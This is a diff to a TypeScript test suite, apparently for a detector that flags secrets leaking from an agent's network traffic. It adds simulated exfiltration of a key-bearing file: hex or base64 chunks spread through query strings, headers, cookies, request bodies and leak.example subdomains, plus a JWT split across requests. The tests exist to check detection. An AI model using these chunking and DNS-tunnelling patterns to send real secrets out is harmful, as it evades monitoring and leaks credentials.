@@ -67,7 +67,7 @@ split('are found in names of fields, and in what a resolver is asked for', async
     'request.target split',
   ]);
   assert.equal(await seen([{ head: `GET /resolve?name=${KEY.toLowerCase()}.x.example.com.` }]), [
-    'request.target',
+    'request.target case',
   ]);
   assert.equal(await seen([A, B, C].map((piece) => ({ head: `GET /resolve?name=${piece}.x.example.com` }))), [
     'request.target split',
@@ -90,6 +90,57 @@ split('are found across requests to one destination, among other values', async 
   assert.equal(await seen([A, B, C].map((piece) => ({ body: piece }))), ['request.body split']);
   assert.equal(await seen([A, B, C].map((piece) => ({ body: JSON.stringify({ n: 'a b', d: piece }) }))), [
     'request.body split',
+  ]);
+});
+
+/** A file with a key in it, which nothing but its encoding says is text. */
+const FILE = `# settings of the agent\nregion = eu\nkey = ${KEY}\n`;
+
+function inPieces(text: string, length: number): string[] {
+  return text.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
+}
+
+split('of a file that was encoded and sent bit by bit are found, wherever the bits stand', async () => {
+  for (const encoding of ['hex', 'base64', 'base64url'] as const) {
+    const bits = inPieces(Buffer.from(FILE).toString(encoding), 20);
+    const requests: ReadonlyArray<(bit: string, n: number) => { head?: string; body?: string }> = [
+      (bit: string, n: number) => ({ head: `GET /?i=${n}&d=${encodeURIComponent(bit)}` }),
+      (bit: string, n: number) => ({ head: `GET /x/${n}\nX-Trace: ${bit}\nX-Request-Id: r${n}` }),
+      (bit: string, n: number) => ({ head: `GET /\nCookie: a=${n}; s=${bit}` }),
+      (bit: string) => ({ head: `GET /\nUser-Agent: ${bit}` }),
+      (bit: string, n: number) => ({ body: JSON.stringify({ n, d: bit, note: 'some words '.repeat(9) }) }),
+    ];
+    for (const request of requests) {
+      const [found = '', ...others] = await seen(bits.map(request));
+      assert.match(found, /^request\.(?:target|header|body) split base64$|^request\.\w+ split hex$/);
+      assert.equal(others, []);
+    }
+  }
+  assert.equal(await seen(inPieces(FILE.replace(/\W+/g, ''), 20).map((d) => ({ head: `GET /?d=${d}` }))), []);
+});
+
+split('of a file are found in the names of hosts, among labels that stay', async () => {
+  for (const dest of [
+    (bit: string) => `${bit}.t.leak.example:443`,
+    (bit: string, n: number) => `${bit}.${n}.leak.example:443`,
+  ]) {
+    const traffic = new InspectedTraffic();
+    for (const [n, bit] of inPieces(Buffer.from(FILE).toString('hex'), 40).entries())
+      await traffic.exchange(dest(bit, n), { head: 'GET /' });
+    assert.equal(traffic.told, ['aws_access_key_id destination critical']);
+    for (const { dest: shown } of traffic.findings.values()) assert.is(shown, '[REDACTED].leak.example:443');
+  }
+  const whole = inPieces(Buffer.from(FILE).toString('hex'), 60).join('.');
+  assert.equal(await seen([{ head: 'GET /' }], `${whole}.leak.example:443`), ['destination split hex']);
+});
+
+split('of a token of no vendor are found by its structure', async () => {
+  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
+  const token = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: '4711', role: 'admin' })}.c2lnbmF0dXJlLXF3ZXJ0eXVpb3A`;
+  const [a = '', b = '', c = ''] = inPieces(token, 40);
+  assert.equal(await seen([{ body: JSON.stringify({ a, b, c }) }]), ['request.body split']);
+  assert.equal(await seen([{ head: `GET /?d=${a}` }, { head: `GET /?d=${b}` }, { head: `GET /?d=${c}` }]), [
+    'request.target split',
   ]);
 });
 
